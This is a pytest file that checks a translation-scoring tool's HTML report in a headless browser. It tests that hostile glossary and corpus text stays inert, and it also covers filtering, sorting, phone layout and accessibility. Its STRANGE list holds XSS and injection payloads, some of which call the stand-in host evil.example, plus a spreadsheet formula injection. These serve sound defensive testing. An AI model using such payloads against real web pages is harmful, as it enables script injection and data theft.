"""The page of ``ilchi score`` in a browser: nothing leaves it, the strange is text, it filters and sorts."""

import random

import pytest

from checker import Corpus, Glossary, Segment
from checker.project.score_history import read_card
from tests.browser import needs_axe, needs_chromium, shown, violations
from tests.scored import page, written
from tests.test_score_command import BAD, GLOSSARY, GOOD, corpus

STRANGE = [
    "<script>document.title = 'run'</script>",
    "</script><script>fetch('//evil.example/a')</script>",
    "</style><style>@import '//evil.example/b.css'</style>",
    "<img src=//evil.example/c.png onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<!-- --><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/d.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/e'>",
    "{{ 7 * 7 }}{% raw %}",
    "\u202e\u2066 turned \u0000\x1b[31m\ufffe",
    "&lt;b&gt; &#x3c;i&#x3e;",
    '=HYPERLINK("http://evil.example")',
    "가\u0301각 \u1112\u1161\u11ab",
    "a" * 3000,
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    terms = enumerate(STRANGE[:-1])
    rows = [{"id": text, "source": f"배지{n}", "target": text, "forbidden": f"pin {text}"} for n, text in terms]
    segments = [
        Segment(source=f"배지{n} {text}", target=f"pin {text}", document=text, file=text, index=1)
        for n, text in enumerate(STRANGE)
    ]
    whole = Corpus.of(segments)
    systems = {f"{STRANGE[0]}1": whole, f"{STRANGE[3]}2": whole}
    path = tmp_path_factory.mktemp("hostile") / "old.json"
    path.write_text(written(page(systems, Glossary.from_rows(rows)), "json"), encoding="utf-8")
    old = read_card(path)._replace(name=STRANGE[1])
    made = page(systems, Glossary.from_rows(rows), whole, old=old, history=(old, old))
    path = path.with_name("score.html")
    path.write_text(written(made, "html"), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    many = random.Random(1).choices(range(4), k=120)
    sources = [["김정은이 배지를 달았다.", "배지가 있다.", "평양에 갔다.", "배지를 받았다."][n] for n in many]
    good, bad = ([texts[n] for n in many] for texts in (GOOD, BAD))
    path = tmp_path_factory.mktemp("plain") / "score.html"
    old = path.with_name("2026-03.json")
    old.write_text(written(page({"theirs": corpus(bad, sources)}, GLOSSARY), "json"), encoding="utf-8")
    made = page(
        {"theirs": corpus(bad, sources), "ours": corpus(good, sources)}, GLOSSARY, corpus(good, sources),
        old=read_card(old), history=(read_card(old),),
    )  # fmt: skip
    path.write_text(written(made, "html"), encoding="utf-8")
    return path


@needs_chromium
def test_nothing_leaves_a_hostile_page_and_nothing_of_it_runs(hostile, tmp_path):
    dom, _, asked = shown(hostile, tmp_path)
    assert not [path for path in asked if "evil" in path]
    assert "<title>Translation score" in dom
    assert dom.count("<script") == 1
    for text in ("&lt;script&gt;document.title", "&lt;img src=//evil.example/c.png", "{{ 7 * 7 }}"):
        assert text in dom


@needs_chromium
def test_the_browser_would_tell_of_a_request(tmp_path):
    control = tmp_path / "control.html"
    control.write_text("<img src=http://evil.example/control.png>", encoding="utf-8")
    assert [path for path in shown(control, tmp_path)[2] if "evil.example/control" in path]


@needs_chromium
def test_the_script_of_the_page_runs_under_its_own_policy(plain, tmp_path):
    dom, _, _ = shown(plain, tmp_path)
    assert "<button" in dom
    assert '<div class="filter" hidden' not in dom


@needs_chromium
def test_findings_are_filtered_and_tables_sorted(plain, tmp_path):
    script = """
        const box = document.querySelector('#filter-1'), kind = document.querySelector('#kind-1');
        const count = () => document.querySelectorAll('#found-1 article:not([hidden])').length;
        const found = [count()];
        box.value = 'pin'; box.dispatchEvent(new Event('input')); found.push(count());
        box.value = ''; kind.value = 'minor'; kind.dispatchEvent(new Event('change')); found.push(count());
        found.push(box.closest('.filter').querySelector('output').textContent);
        const rows = () => [...document.querySelectorAll('#worst tbody tr')];
        const cells = () => rows().map((row) => Number(row.cells[3].textContent));
        const button = document.querySelectorAll('#worst thead th')[3].querySelector('button');
        button.click(); found.push(cells()); button.click(); found.push(cells());
        found.push(document.querySelectorAll('#worst thead th')[3].getAttribute('aria-sort'));
        return found;
    """
    _, (everything, pins, minor, said, falling, rising, state), _ = shown(plain, tmp_path, script)
    assert everything > pins > 0
    assert everything > minor > 0
    assert said == f"{minor} of {everything}"
    assert falling == sorted(falling, reverse=True)
    assert rising == sorted(rising)
    assert state == "ascending"


@needs_chromium
def test_nothing_hangs_over_on_a_phone(plain, tmp_path):
    script = "return [document.documentElement.scrollWidth, window.innerWidth];"
    _, (wide, room), _ = shown(plain, tmp_path, script, "--window-size=500,900")
    assert wide <= room


@needs_chromium
@needs_axe
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("kind", ["plain", "hostile"])
def test_axe_finds_nothing(kind, scheme, request, tmp_path):
    path = request.getfixturevalue(kind)
    if scheme == "dark":
        text = path.read_text(encoding="utf-8").replace("@media (prefers-color-scheme: dark)", "@media all")
        path = tmp_path / "dark.html"
        path.write_text(text, encoding="utf-8")
    assert violations(path, tmp_path) == []


def test_the_page_is_whole_without_its_script(plain):
    text = plain.read_text(encoding="utf-8")
    before, script, _ = text.partition("<script>")
    assert script
    for said in (
        "Findings",
        "theirs",
        "Kim Jong-un",
        "glossary changed" if "glossary changed" in text else "Over time",
    ):
        assert said in before
    for plot in ('class="strip"', 'class="chart"', 'class="chart square"', 'class="line s0"', "matrix"):
        assert plot in before
    assert before.count("<svg") == before.count('role="img"')
